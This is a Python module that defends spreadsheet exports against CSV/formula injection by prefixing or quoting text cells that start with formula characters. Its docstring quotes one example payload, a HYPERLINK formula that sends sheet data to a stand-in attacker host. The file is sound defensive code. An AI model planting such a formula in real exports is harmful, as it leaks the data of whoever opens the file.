"""CSV and XLSX files that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (and, after a tab or a
carriage return, whatever follows) as a formula: a proposal titled
`=HYPERLINK("http://evil.example/?x="&A1,"klikk")` would send the sheet's data away when a KS
employee opens the export. Every CSV and XLSX the platform writes goes through this module
(OWASP's "CSV injection" advice): text cells get a leading apostrophe in CSV and are stored as
quoted text in XLSX. Numbers, including negative ones written as text ("-1,5"), stay numbers.
"""

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number as our exports write it: optional sign, digits, one decimal point or comma.
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")


def defuse(value: object) -> object:
    """The cell value a spreadsheet shows as typed: text that would start a formula gets a
    leading apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def defuse_text(value: str) -> str:
    """`defuse` for a cell known to be text."""
    result = defuse(value)
    assert isinstance(result, str)
    return result


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """csv.writer that defuses every cell; use it instead of csv.writer for anything a person
    may open in a spreadsheet."""

    def __init__(self, output: _Writable, **options: Any) -> None:
        self._writer = csv.writer(output, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([defuse(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(output: _Writable, **options: Any) -> SafeWriter:
    return SafeWriter(output, **options)


def append_xlsx_row(sheet: Any, row: Sequence[object]) -> None:
    """Append `row` to an openpyxl worksheet with every text cell stored as text.

    openpyxl turns a string starting with "=" into a formula; here it stays a string, marked
    with Excel's quote prefix so that editing the cell does not turn it into one either. The
    text itself is not changed."""
    sheet.append(list(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            if _NUMBER.fullmatch(cell.value):
                continue
            cell.data_type = "s"
            cell.quotePrefix = True
